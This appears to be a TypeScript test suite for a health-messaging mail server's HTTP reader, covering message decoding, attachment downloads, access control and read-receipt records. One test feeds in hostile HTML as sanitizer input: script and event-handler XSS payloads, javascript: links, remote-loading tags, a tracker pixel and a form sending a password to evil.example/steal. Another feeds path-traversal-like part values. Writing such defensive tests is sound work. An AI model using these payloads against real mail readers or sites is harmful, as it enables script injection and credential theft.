import assert from 'node:assert/strict';
import { createHash, randomBytes } from 'node:crypto';
import type { FastifyInstance } from 'fastify';
import MailComposer from 'nodemailer/lib/mail-composer/index.js';
import type Mail from 'nodemailer/lib/mailer/index.js';
import { ALL_RIGHTS } from '../../src/core/mailbox.ts';
import { buildHttpApp } from '../../src/protocols/http/app.ts';
import { addDomain, addMailbox, addUser } from '../../src/services/accounts.ts';
import { recipientsOf } from '../../src/store/repositories/messages.ts';
import { proofEventsOf } from '../../src/store/repositories/proofs.ts';
import { engineTest, type TestRuntime } from '../support/engines.ts';
import { countRows, crlf, send } from '../support/fixtures.ts';
import { logIn, PASSWORD } from './login.ts';

const D = 'demo.mssante.test';
const CSP =
  "default-src 'none'; style-src 'unsafe-inline'; img-src data:; font-src 'none'; form-action 'none'; base-uri 'none'; frame-ancestors 'self'; sandbox allow-popups allow-popups-to-escape-sandbox";

type Body = {
  id: string;
  subject: string | null;
  from: { name: string; address: string }[];
  to: { name: string; address: string }[];
  text: string | null;
  hasHtml: boolean;
  attachments: { part: string; filename: string | null; contentType: string; size: number; inline: boolean }[];
};

async function serve(rt: TestRuntime): Promise<{ app: FastifyInstance; url: string; ids: Record<string, string> }> {
  const { ctx } = rt;
  await addDomain(ctx, D);
  const ids: Record<string, string> = {};
  for (const id of ['emartin', 'sbernard', 'khaddad']) {
    await addUser(ctx, { id, displayName: id, password: PASSWORD, notifyEmail: `${id}@exemple.fr` });
    ids[id] = await addMailbox(ctx, { address: `${id}@${D}`, kind: 'PER', displayName: id, members: [{ userId: id, rights: ALL_RIGHTS }] });
  }
  ids.cardio = await addMailbox(ctx, { address: `cardio@${D}`, kind: 'ORG', displayName: 'Cardio', members: [{ userId: 'emartin', rights: ALL_RIGHTS }] });
  const app = await buildHttpApp(ctx, { version: 'test', devOutbox: true, secureCookies: false });
  await app.listen({ host: '127.0.0.1', port: 0 });
  return { app, url: `http://127.0.0.1:${(app.server.address() as { port: number }).port}`, ids };
}

function as(url: string, session: { cookie: string }) {
  return (path: string) => fetch(`${url}${path}`, { headers: { cookie: session.cookie } });
}

async function composed(options: Mail.Options): Promise<Buffer> {
  return new Promise((resolve, reject) => new MailComposer(options).compile().build((error, message) => (error ? reject(error) : resolve(message))));
}

/** A message from emartin to khaddad, deposited as written. */
async function deliver(rt: TestRuntime, raw: Buffer): Promise<string> {
  return (await send(rt.ctx, `emartin@${D}`, 'emartin', raw)).messageId;
}

const head = (subject: string, contentType: string, encoding?: string) => [
  `From: Éloïse Martin <emartin@${D}>`,
  `To: khaddad@${D}`,
  `Subject: ${subject}`,
  'MIME-Version: 1.0',
  `Content-Type: ${contentType}`,
  ...(encoding ? [`Content-Transfer-Encoding: ${encoding}`] : []),
  '',
];

const sha256 = (bytes: Uint8Array) => createHash('sha256').update(bytes).digest('hex');

engineTest('HTTP reader: text of plain, quoted-printable Latin-1, base64 UTF-8, alternative, mixed and HTML-only messages, accents intact', async (_t, rt) => {
  const { app, url } = await serve(rt);
  try {
    const get = as(url, await logIn(url, 'khaddad'));
    const body = async (messageId: string) => {
      const response = await get(`/api/v1/messages/${messageId}/body`);
      assert.equal(response.status, 200);
      return (await response.json()) as Body;
    };

    const plain = await deliver(rt, crlf(...head('Compte rendu', 'text/plain; charset=utf-8', '8bit'), 'Bonjour Karim,', 'voici le compte rendu : éèàçœ « ok ».', ''));
    const read = await body(plain);
    assert.equal(read.text, 'Bonjour Karim,\nvoici le compte rendu : éèàçœ « ok ».\n');
    assert.equal(read.hasHtml, false);
    assert.deepEqual(read.from, [{ name: 'Éloïse Martin', address: `emartin@${D}` }]);
    assert.deepEqual(read.attachments, []);

    const latin1 = await deliver(rt, crlf(...head('=?ISO-8859-1?Q?R=E9sultats?=', 'text/plain; charset=ISO-8859-1', 'quoted-printable'), 'R=E9sultats de l=27=E9chographie : normaux.=', ' Tr=E8s bien.'));
    assert.deepEqual([(await body(latin1)).subject, (await body(latin1)).text], ['Résultats', "Résultats de l'échographie : normaux. Très bien."]);

    const utf8 = 'Électrocardiogramme — rythme sinusal, fréquence 72/min.\r\nÀ revoir dans 3 mois.';
    const base64 = await deliver(rt, crlf(...head('ECG', 'text/plain; charset="UTF-8"', 'base64'), ...Buffer.from(utf8).toString('base64').match(/.{1,20}/g)!));
    assert.equal((await body(base64)).text, 'Électrocardiogramme — rythme sinusal, fréquence 72/min.\nÀ revoir dans 3 mois.');

    const alternative = await deliver(
      rt,
      await composed({ from: `emartin@${D}`, to: `khaddad@${D}`, subject: 'Alternative', text: 'Version texte : résumé.', html: '<p>Version <b>HTML</b> : résumé.</p>' }),
    );
    const both = await body(alternative);
    assert.deepEqual([both.text, both.hasHtml], ['Version texte : résumé.', true]);
    const html = await get(`/api/v1/messages/${alternative}/html`);
    assert.match(await html.text(), /<body><p>Version <b>HTML<\/b> : résumé\.<\/p><\/body>/);

    const mixed = await deliver(
      rt,
      await composed({
        from: `emartin@${D}`,
        to: `khaddad@${D}`,
        subject: 'Pièces jointes',
        text: 'Ci-joint le bilan et la radio.',
        attachments: [
          { filename: 'bilan.pdf', content: Buffer.from('%PDF-1.4 bilan'), contentType: 'application/pdf' },
          { filename: 'notes.txt', content: 'notes privées', contentType: 'text/plain' },
          { filename: 'radio.png', content: Buffer.from('89504e470d0a1a0a', 'hex'), contentType: 'image/png', cid: 'radio@x' },
        ],
      }),
    );
    const withFiles = await body(mixed);
    assert.equal(withFiles.text, 'Ci-joint le bilan et la radio.');
    assert.deepEqual(withFiles.attachments, [
      { part: '2', filename: 'bilan.pdf', contentType: 'application/pdf', size: 14, inline: false },
      { part: '3', filename: 'notes.txt', contentType: 'text/plain', size: 14, inline: false },
      { part: '4', filename: 'radio.png', contentType: 'image/png', size: 8, inline: true },
    ]);

    const htmlOnly = await deliver(
      rt,
      crlf(
        ...head('HTML', 'text/html; charset=utf-8', 'quoted-printable'),
        '<html><head><style>p { color: red }</style></head><body><h1>Bilan</h1><p>Patient&nbsp;: M. Dupont, cr=C3=A9atinine =',
        '&eacute;lev&eacute;e.<br>&Agrave; contr&ocirc;ler.</p><ul><li>K+ 4,1</li><li>Na 140</li></ul></body></html>',
      ),
    );
    const rendered = await body(htmlOnly);
    assert.equal(rendered.text, 'Bilan\n\nPatient\u00a0: M. Dupont, créatinine élevée.\nÀ contrôler.\n\n• K+ 4,1\n• Na 140');
    assert.equal(rendered.hasHtml, true);
  } finally {
    await app.close();
  }
});

engineTest('HTTP reader: hostile HTML is sanitized (nothing runs, submits or loads), formatting stays, and the CSP is exact', async (_t, rt) => {
  const { app, url } = await serve(rt);
  try {
    const get = as(url, await logIn(url, 'khaddad'));
    const hostile = [
      '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
      '<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/s.css">',
      '<style>@import url(https://evil.example/i.css); p { color: blue }</style>',
      '<style>.ok { font-weight: bold }</style>',
      '<script>alert(1)</script>',
      '<p class="ok" style="color: green; background: url(https://evil.example/bg.png)">Tension <b>12/8</b>, <i>normale</i>.</p>',
      '<img src=x onerror=alert(1)>',
      '<img src="https://tracker.example/p.gif" alt="">',
      '<img src="cid:logo@hopital" alt="Logo de l’hôpital">',
      '<img src="data:image/png;base64,iVBORw0KGgo=" alt="embarquée">',
      '<a href="javascript:alert(2)">cliquez</a> <a href="https://exemple.fr/dossier">dossier</a> <a href="mailto:secretariat@exemple.fr">écrire</a>',
      '<form action="https://evil.example/steal"><input name="password"><button>OK</button></form>',
      '<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/o"></object><embed src="https://evil.example/e">',
      '<svg onload="alert(3)"><circle r="1"></circle></svg>',
      '<table background="https://evil.example/t.png"><tr><td style="background-image: url(\'https://evil.example/c.png\')">Na</td><td>140</td></tr></table>',
      '<video poster="https://evil.example/p.jpg" src="https://evil.example/v.mp4"></video>',
      '<div onmouseover="alert(4)" srcset="https://evil.example/a.png 1x">Fin</div>',
    ].join('\n');
    const messageId = await deliver(rt, crlf(...head('Piège', 'text/html; charset=utf-8', '8bit'), hostile, ''));

    const response = await get(`/api/v1/messages/${messageId}/html`);
    assert.equal(response.status, 200);
    assert.equal(response.headers.get('content-type'), 'text/html; charset=utf-8');
    assert.equal(response.headers.get('content-security-policy'), CSP);
    assert.equal(response.headers.get('x-frame-options'), 'SAMEORIGIN');
    assert.equal(response.headers.get('cache-control'), 'no-store');
    const html = await response.text();
    assert.ok(html.startsWith('<!doctype html><html><head><meta charset="utf-8"><base target="_blank"><style>'));
    const body = html.slice(html.indexOf('<body>') + '<body>'.length, html.lastIndexOf('</body></html>'));

    for (const gone of [/<script/i, /alert/i, /\bon[a-z]+=/i, /javascript:/i, /<form/i, /<input/i, /<button/i, /<iframe/i, /<object/i, /<embed/i, /<svg/i, /<meta/i, /<base/i, /<link/i, /<video/i, /@import/i, /url\(/i, /evil\.example/, /tracker\.example/, /cid:/, /srcset/i, /background=/i, /poster/i]) {
      assert.doesNotMatch(body, gone);
    }
    // What a reader needs is still there.
    assert.match(body, /<style>\.ok \{ font-weight: bold \}<\/style>/);
    assert.match(body, /<p class="ok" style="color: green">Tension <b>12\/8<\/b>, <i>normale<\/i>\.<\/p>/);
    assert.match(body, /<a>cliquez<\/a> <a href="https:\/\/exemple\.fr\/dossier" target="_blank" rel="noopener noreferrer">dossier<\/a> <a href="mailto:secretariat@exemple\.fr" target="_blank" rel="noopener noreferrer">écrire<\/a>/);
    assert.match(body, /Logo de l’hôpital/);
    assert.match(body, /<img src="data:image\/png;base64,iVBORw0KGgo=" alt="embarquée">/);
    assert.match(body, /<table><tbody><tr><td>Na<\/td><td>140<\/td><\/tr><\/tbody><\/table>/);
    assert.match(body, /<div>Fin<\/div>/);
    // Only our own style sheet, and no remote reference anywhere in the document.
    assert.doesNotMatch(html, /https?:\/\/(?!exemple\.fr\/dossier")/);

    const plain = await deliver(rt, crlf(...head('Texte', 'text/plain; charset=utf-8'), 'rien de plus'));
    const none = await get(`/api/v1/messages/${plain}/html`);
    assert.equal(none.status, 404);
    assert.deepEqual(await none.json(), { error: 'not_found', message: 'this message has no HTML part' });
  } finally {
    await app.close();
  }
});

engineTest('HTTP reader: attachments download decoded and byte-exact, as files, under a safe name', async (_t, rt) => {
  const { app, url } = await serve(rt);
  try {
    const get = as(url, await logIn(url, 'khaddad'));
    const everyByte = Buffer.concat(Array.from({ length: 4 }, () => Buffer.from(Array.from({ length: 256 }, (_v, i) => i))));
    const large = randomBytes(3 * 1024 * 1024);
    const messageId = await deliver(
      rt,
      await composed({
        from: `emartin@${D}`,
        to: `khaddad@${D}`,
        subject: 'Fichiers',
        text: 'Deux fichiers.',
        attachments: [
          { filename: 'Compte rendu "échographie" été.bin', content: everyByte, contentType: 'application/octet-stream' },
          { filename: 'scanner.dcm', content: large, contentType: 'application/dicom' },
        ],
      }),
    );
    const files = ((await (await get(`/api/v1/messages/${messageId}/body`)).json()) as Body).attachments;
    assert.deepEqual(files.map((file) => [file.part, file.filename, file.size]), [
      ['2', "Compte rendu 'échographie' été.bin", 1024],
      ['3', 'scanner.dcm', large.length],
    ]);

    const first = await get(`/api/v1/messages/${messageId}/attachments/2`);
    assert.equal(first.status, 200);
    assert.equal(first.headers.get('content-type'), 'application/octet-stream');
    assert.equal(first.headers.get('x-content-type-options'), 'nosniff');
    assert.equal(first.headers.get('content-length'), '1024');
    assert.equal(
      first.headers.get('content-disposition'),
      `attachment; filename="Compte rendu 'echographie' ete.bin"; filename*=UTF-8''Compte%20rendu%20%27%C3%A9chographie%27%20%C3%A9t%C3%A9.bin`,
    );
    assert.equal(sha256(new Uint8Array(await first.arrayBuffer())), sha256(everyByte));

    const second = await get(`/api/v1/messages/${messageId}/attachments/3`);
    assert.equal(second.status, 200);
    assert.equal(second.headers.get('content-length'), String(large.length));
    assert.equal(second.headers.get('content-disposition'), `attachment; filename="scanner.dcm"; filename*=UTF-8''scanner.dcm`);
    assert.equal(sha256(new Uint8Array(await second.arrayBuffer())), sha256(large));

    // A body that does not decode to the announced length ends as a failed download, not a short file or a hung connection.
    const damaged = await deliver(
      rt,
      crlf(...head('abîmé', 'multipart/mixed; boundary="b"'), '--b', '', 'texte', '--b', 'Content-Type: application/pdf; name="a.pdf"', 'Content-Transfer-Encoding: base64', '', 'SGVsbG8g!!!!d29ybGQ=', '--b--', ''),
    );
    const broken = await get(`/api/v1/messages/${damaged}/attachments/2`);
    assert.equal(broken.headers.get('content-length'), '14');
    await assert.rejects(broken.arrayBuffer());
  } finally {
    await app.close();
  }
});

engineTest('HTTP reader: someone else gets 404, the text is an opening, parts are checked before anything is recorded', async (_t, rt) => {
  const { app, url, ids } = await serve(rt);
  try {
    const khaddad = as(url, await logIn(url, 'khaddad'));
    const sbernard = as(url, await logIn(url, 'sbernard'));
    const messageId = await deliver(
      rt,
      await composed({ from: `emartin@${D}`, to: `khaddad@${D}`, subject: 'Privé', text: 'Texte.', html: '<p>Texte.</p>', attachments: [{ filename: 'a.pdf', content: 'pdf' }] }),
    );
    for (const path of ['body', 'html', 'attachments/2', 'attachments/9']) {
      const response = await sbernard(`/api/v1/messages/${messageId}/${path}`);
      assert.equal(response.status, 404, path);
      assert.deepEqual(await response.json(), { error: 'not_found', message: 'no such message' });
    }
    assert.equal((await sbernard(`/api/v1/messages/msg_aaaaaaaaaaaaaaaaaaaa/body`)).status, 404);
    assert.equal((await fetch(`${url}/api/v1/messages/${messageId}/body`)).status, 401);

    const events = await countRows(rt.ctx, 'proof_event');
    for (const part of ['0', '1..2', '2.', 'a', '-1', '12345', '1.2.3.4.5.6.7.8.9.10.11', '2%2F..']) {
      assert.equal((await khaddad(`/api/v1/messages/${messageId}/attachments/${part}`)).status, 400, part);
    }
    const missing = await khaddad(`/api/v1/messages/${messageId}/attachments/9`);
    assert.equal(missing.status, 404);
    assert.deepEqual(await missing.json(), { error: 'not_found', message: 'this message has no such attachment' });
    // Part 1 is the text, not an attachment.
    assert.equal((await khaddad(`/api/v1/messages/${messageId}/attachments/1`)).status, 404);
    assert.equal(await countRows(rt.ctx, 'proof_event'), events, 'refusals record nothing');
    assert.deepEqual((await recipientsOf(rt.ctx.sql.read, messageId)).map((row) => row.opened_at), [null]);

    rt.clock.now += 60_000;
    assert.equal((await khaddad(`/api/v1/messages/${messageId}/body`)).status, 200);
    assert.deepEqual((await recipientsOf(rt.ctx.sql.read, messageId)).map((row) => [row.address, row.opened_at]), [[`khaddad@${D}`, rt.clock.now]]);
    const opened = (await proofEventsOf(rt.ctx.sql.read, messageId)).filter((event) => event.type === 'opened');
    assert.deepEqual(opened.map((event) => [event.recipient, event.actor, event.channel]), [[`khaddad@${D}`, 'user:khaddad', 'web']]);

    // The sender who also reads the service's mailbox says which copy she opens.
    const emartin = as(url, await logIn(url, 'emartin'));
    const toService = (await send(rt.ctx, `emartin@${D}`, 'emartin', crlf(`From: emartin@${D}`, `To: cardio@${D}`, 'Subject: service', '', 'x'))).messageId;
    assert.equal((await emartin(`/api/v1/messages/${toService}/body`)).status, 400);
    assert.equal((await emartin(`/api/v1/messages/${toService}/body?mailbox=${ids.khaddad}`)).status, 404);
    const viaService = await emartin(`/api/v1/messages/${toService}/body?mailbox=${ids.cardio}`);
    assert.equal(viaService.status, 200);
    assert.equal(((await viaService.json()) as Body).text, 'x');
    assert.deepEqual((await recipientsOf(rt.ctx.sql.read, toService)).map((row) => row.opened_at), [rt.clock.now]);
  } finally {
    await app.close();
  }
});
